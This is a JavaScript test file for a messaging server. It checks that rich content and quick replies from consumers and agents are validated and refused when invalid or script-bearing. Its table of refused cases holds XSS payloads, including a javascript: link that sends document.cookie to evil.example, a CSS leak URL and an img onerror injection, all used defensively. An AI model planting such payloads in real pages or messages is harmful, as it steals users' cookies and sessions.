'use strict';
// Rich content published by consumers and agents is validated by the server, with the same
// structured-content validator as bot responses, before it is stored: an invalid or
// script-bearing RichContentEvent (or quick replies on a ContentEvent) is refused with a 400
// `resp` that names the problem and its path, and nothing is stored. Valid content is stored.
const test = require('node:test');
const assert = require('node:assert/strict');
const WebSocket = require('ws');
const { startServer, login, rest } = require('./lib/server');
const { Consumer } = require('./lib/consumer');
const { adminSession } = require('./lib/setup');

// The agent socket (v=2.1) spoken with the same request/notification bookkeeping.
class Agent extends Consumer {
  connectAgent(bearer) {
    const url = `wss://${this.srv.httpsHost}/ws_api/account/${this.account}/messaging/brand/${encodeURIComponent(bearer)}?v=2.1`;
    this.ws = new WebSocket(url, { ca: this.srv.ca, maxPayload: 8 << 20 });
    this.ws.on('message', (data) => this._onMessage(data.toString()));
    this.ws.on('close', (code, reason) => {
      this.closed = { code, reason: reason.toString() };
      this._check();
    });
    return new Promise((resolve, reject) => {
      this.ws.once('open', resolve);
      this.ws.once('error', reject);
      this.ws.once('unexpected-response', (req, res) => reject(new Error(`upgrade refused: HTTP ${res.statusCode}`)));
    });
  }
}

const card = (elements) => ({ type: 'vertical', elements });
const rich = (content) => ({ type: 'RichContentEvent', content });

// Each entry: a name, the event, and what the refusal must mention.
const REFUSED = [
  ['not JSON Pollock', rich({ type: 'bogus', elements: [] }), /\/event\/content/],
  ['an unknown element', rich(card([{ type: 'script', text: 'x' }])), /\/event\/content\/elements\/0/],
  ['a button without a title', rich(card([{ type: 'button', click: { actions: [{ type: 'publishText', text: 'x' }] } }])), /\/event\/content\/elements\/0.*title/],
  ['a javascript: link action', rich(card([{ type: 'button', title: 'Open', click: { actions: [{ type: 'link', name: 'x', uri: 'javascript:fetch("https://evil.example/?"+document.cookie)' }] } }])), /javascript|http/i],
  ['a data: link action', rich(card([{ type: 'button', title: 'Open', click: { actions: [{ type: 'link', name: 'x', uri: 'data:text/html,<script>alert(1)</script>' }] } }])), /\/uri/],
  ['a vbscript: link for the web', rich(card([{ type: 'button', title: 'Open', click: { actions: [{ type: 'link', name: 'x', uri: 'https://example.com/', web: { uri: 'vbscript:msgbox(1)' } }] } }])), /\/web\/uri/],
  ['a javascript: image', rich(card([{ type: 'image', url: 'javascript:alert(1)' }])), /\/event\/content\/elements\/0\/url/],
  ['an http image', rich(card([{ type: 'image', url: 'http://example.com/a.png' }])), /https/],
  ['CSS in a colour', rich(card([{ type: 'text', text: 'x', style: { color: 'red;background-image:url(https://evil.example/leak)' } }])), /\/style\/color/],
  ['an expression in a colour', rich(card([{ type: 'text', text: 'x', style: { 'background-color': 'expression(alert(1))' } }])), /\/style\/background-color/],
  ['not an object', rich('<img src=x onerror=alert(1)>'), /content/],
  ['no content', { type: 'RichContentEvent' }, /content/],
  ['quick replies with a javascript: link', { type: 'ContentEvent', contentType: 'text/plain', message: 'pick', quickReplies: { type: 'quickReplies', itemsPerRow: 1, replies: [{ type: 'button', title: 'x', click: { actions: [{ type: 'link', name: 'x', uri: 'javascript:alert(1)' }] } }] } }, /\/event\/quickReplies/],
  ['invalid quick replies', { type: 'ContentEvent', contentType: 'text/plain', message: 'pick', quickReplies: { type: 'quickReplies', replies: [] } }, /\/event\/quickReplies/],
];

// Compact JSON of exactly `bytes` bytes (ASCII only): text elements of at most 5,000 characters.
function cardOfSize(bytes) {
  const n = 4;
  const base = card(Array.from({ length: n }, () => ({ type: 'text', text: '' })));
  let pad = bytes - JSON.stringify(base).length;
  assert.ok(pad > 0 && pad <= n * 5000);
  const elements = [];
  for (let i = 0; i < n; i++) {
    const k = Math.min(5000, pad);
    elements.push({ type: 'text', text: 'a'.repeat(k) });
    pad -= k;
  }
  const c = card(elements);
  assert.equal(JSON.stringify(c).length, bytes);
  return c;
}

test('consumers and agents cannot store invalid or script-bearing rich content', { timeout: 90000 }, async (t) => {
  const srv = await startServer();
  const consumer = new Consumer(srv, srv.demo.account);
  const agent = new Agent(srv, srv.demo.account);
  t.after(async () => {
    consumer.close();
    agent.close();
    const r = await srv.stop();
    assert.equal(r.code, 0, `server exit code on SIGTERM: ${JSON.stringify(r)}\n${srv.logs().slice(-3000)}`);
  });
  const admin = await adminSession(srv);
  const acc = admin.account;

  // A consumer's conversation on the demo agent's skill.
  await consumer.signup();
  await consumer.connect();
  const created = await consumer.request('cm.ConsumerRequestConversation', { skillId: srv.demo.skills.human, channelType: 'MESSAGING', ttrDefName: 'NORMAL' });
  assert.equal(created.code, 200, JSON.stringify(created));
  const convId = created.body.conversationId;
  const messages = async () => (await rest(srv, admin.bearer, 'GET', acc, `conversations/${convId}/messages`)).json;
  const publish = (client, type, event) => client.request(type, { dialogId: convId, event });

  const before = await messages();
  for (const [name, event, mention] of REFUSED) {
    const r = await publish(consumer, 'ms.PublishEvent', event);
    assert.equal(r.code, 400, `consumer, ${name}: ${JSON.stringify(r)}`);
    assert.equal(typeof r.body, 'string', `consumer, ${name}: the error is a string body: ${JSON.stringify(r)}`);
    assert.match(r.body, mention, `consumer, ${name}: ${r.body}`);
  }
  assert.deepEqual(await messages(), before, 'nothing refused was stored');

  // The size limit, at the edge: 15,000 bytes of compact JSON are accepted, 15,001 refused.
  const at = await publish(consumer, 'ms.PublishEvent', rich(cardOfSize(15000)));
  assert.equal(at.code, 200, JSON.stringify(at).slice(0, 300));
  const over = await publish(consumer, 'ms.PublishEvent', rich(cardOfSize(15001)));
  assert.equal(over.code, 400, JSON.stringify(over).slice(0, 300));
  assert.match(over.body, /15,?000 bytes/);

  // Valid content (markup in text is content, not code: the console renders it inert) is stored.
  const ok = await publish(consumer, 'ms.PublishEvent', rich(card([
    { type: 'text', text: 'Which one? <b>bold</b>', style: { color: '#ff0000', bold: true } },
    { type: 'image', url: 'https://example.com/a.png', caption: 'An image' },
    { type: 'button', title: 'Site', click: { actions: [{ type: 'link', name: 'site', uri: 'https://example.com/' }] } },
    { type: 'button', title: 'Mail', click: { actions: [{ type: 'link', name: 'mail', uri: 'mailto:help@example.com' }] } },
    { type: 'button', title: 'Call', click: { actions: [{ type: 'link', name: 'call', uri: 'tel:+15550100' }] } },
  ])));
  assert.equal(ok.code, 200, JSON.stringify(ok));
  const stored = await messages();
  const richStored = stored.filter((m) => JSON.stringify(m).includes('RichContentEvent'));
  assert.equal(richStored.length, 2, `the two valid rich messages are stored: ${JSON.stringify(stored).slice(0, 500)}`);

  // The demo agent accepts the conversation; its rich content is checked the same way.
  const agentLogin = await login(srv, acc, srv.demo.agent.username, srv.demo.agent.password);
  await agent.connectAgent(agentLogin.bearer);
  const me = `${acc}.${agentLogin.config.userId}`;
  assert.equal((await agent.request('.ams.routing.SetAgentState', { availability: 'ONLINE', channels: ['MESSAGING'], agentUserId: me })).code, 200);
  assert.equal((await agent.request('.ams.routing.SubscribeRoutingTasks', { channelType: 'MESSAGING', agentId: me, brandId: acc })).code, 200);
  const ring = await agent.waitFor((a) => {
    for (const n of a.notifications) {
      if (!/RoutingTaskNotification/.test(n.type)) continue;
      for (const ch of n.body.changes || []) {
        const w = (ch.result && ch.result.ringsDetails || []).find((x) => x.ringState === 'WAITING');
        if (w && ch.result.conversationId === convId) return w;
      }
    }
    return null;
  }, 'a ring for the conversation', 15000);
  const acc2 = await agent.request('.ams.routing.UpdateRingState', { ringId: ring.ringId, ringState: 'ACCEPTED' });
  assert.equal(acc2.code, 200, JSON.stringify(acc2));
  // Assigned once the accept is committed: a text publish succeeds.
  let textOk;
  for (let i = 0; i < 50; i++) {
    textOk = await publish(agent, '.ams.ms.PublishEvent', { type: 'ContentEvent', contentType: 'text/plain', message: 'hello' });
    if (textOk.code === 200) break;
    await new Promise((r) => setTimeout(r, 100));
  }
  assert.equal(textOk.code, 200, JSON.stringify(textOk));
  const beforeAgent = await messages();
  for (const [name, event, mention] of REFUSED) {
    const r = await publish(agent, '.ams.ms.PublishEvent', event);
    assert.equal(r.code, 400, `agent, ${name}: ${JSON.stringify(r)}`);
    assert.match(String(r.body), mention, `agent, ${name}: ${JSON.stringify(r.body)}`);
  }
  assert.deepEqual(await messages(), beforeAgent, 'nothing the agent had refused was stored');
  const agentOk = await publish(agent, '.ams.ms.PublishEvent', rich(card([{ type: 'text', text: 'Here you go' }])));
  assert.equal(agentOk.code, 200, JSON.stringify(agentOk));
});
